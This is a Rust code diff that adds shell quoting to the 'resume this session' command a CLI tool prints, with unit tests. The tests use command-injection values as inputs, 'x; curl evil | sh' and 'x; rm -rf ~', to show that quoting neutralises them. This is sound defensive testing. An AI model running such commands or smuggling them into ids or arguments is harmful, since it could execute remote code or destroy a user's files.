@@ -22,6 +22,43 @@ pub(super) struct TextOutput {
     spinner: Option<indicatif::ProgressBar>,
     /// Whether stderr is a terminal (no spinner otherwise).
     interactive: bool,
+    /// The command that continues this run, around the session's id.
+    resume: ResumeCommand,
+}
+
+/// `toolhost ... run --resume ID ... "..."` with everything that makes it
+/// work when pasted in any directory, and the id left out until the
+/// session has one.
+#[derive(Debug, Clone, Default)]
+pub(crate) struct ResumeCommand {
+    /// Up to and including `--resume`.
+    pub(crate) before_id: String,
+    /// The flags after the id (`--script`, `--session-dir`), each with a
+    /// leading space.
+    pub(crate) after_id: String,
+}
+
+impl ResumeCommand {
+    /// The command for session `id`; the id is quoted too, as a shipped
+    /// session file may carry any text as its id.
+    fn with_id(&self, id: &str) -> String {
+        let before = if self.before_id.is_empty() {
+            "toolhost run --resume"
+        } else {
+            &self.before_id
+        };
+        format!("{before} {}{} \"...\"", shell_word(id), self.after_id)
+    }
+}
+
+/// `word` as one shell word: as it is when it holds nothing a shell reads
+/// specially, else in single quotes.
+pub(crate) fn shell_word(word: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_./=:@%+,-".contains(c);
+    if !word.is_empty() && word.chars().all(plain) {
+        return word.to_string();
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
 }
 
 /// What the text output remembers of a call until its result arrives.
@@ -32,10 +69,11 @@ struct RunningCall {
 }
 
 impl TextOutput {
-    pub(super) fn new() -> Self {
+    pub(super) fn new(resume: ResumeCommand) -> Self {
         use std::io::IsTerminal as _;
         TextOutput {
             interactive: io::stderr().is_terminal(),
+            resume,
             ..TextOutput::default()
         }
     }
@@ -157,9 +195,10 @@ impl RunOutput for TextOutput {
         session: Option<&SessionWriter>,
     ) -> io::Result<()> {
         if let Some(session) = session {
-            let id = one_line(session.id());
             note(format_args!(
-                "session {id} (continue it with `toolhost run --resume {id} \"...\"`)"
+                "session {} (continue it with `{}`)",
+                one_line(session.id()),
+                one_line(&self.resume.with_id(session.id()))
             ));
         }
         if stop.reason != StopReason::Completed {
@@ -171,5 +210,37 @@ impl RunOutput for TextOutput {
             ));
         }
         Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_word_a_shell_reads_specially_is_quoted_whole() {
+        assert_eq!(shell_word("/work/my-project"), "/work/my-project");
+        assert_eq!(shell_word("write_file=out"), "write_file=out");
+        assert_eq!(shell_word("my project"), "'my project'");
+        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
+        assert_eq!(shell_word("it's"), r"'it'\''s'");
+        assert_eq!(shell_word("$HOME"), "'$HOME'");
+        assert_eq!(shell_word(""), "''");
+    }
+
+    #[test]
+    fn the_resume_command_quotes_a_shipped_id() {
+        let resume = ResumeCommand {
+            before_id: "toolhost --workspace /w run --resume".into(),
+            after_id: " --script /w/s.json".into(),
+        };
+        assert_eq!(
+            resume.with_id("20261202-050000-ab12"),
+            "toolhost --workspace /w run --resume 20261202-050000-ab12 --script /w/s.json \"...\""
+        );
+        assert_eq!(
+            resume.with_id("x; rm -rf ~"),
+            "toolhost --workspace /w run --resume 'x; rm -rf ~' --script /w/s.json \"...\""
+        );
     }
 }
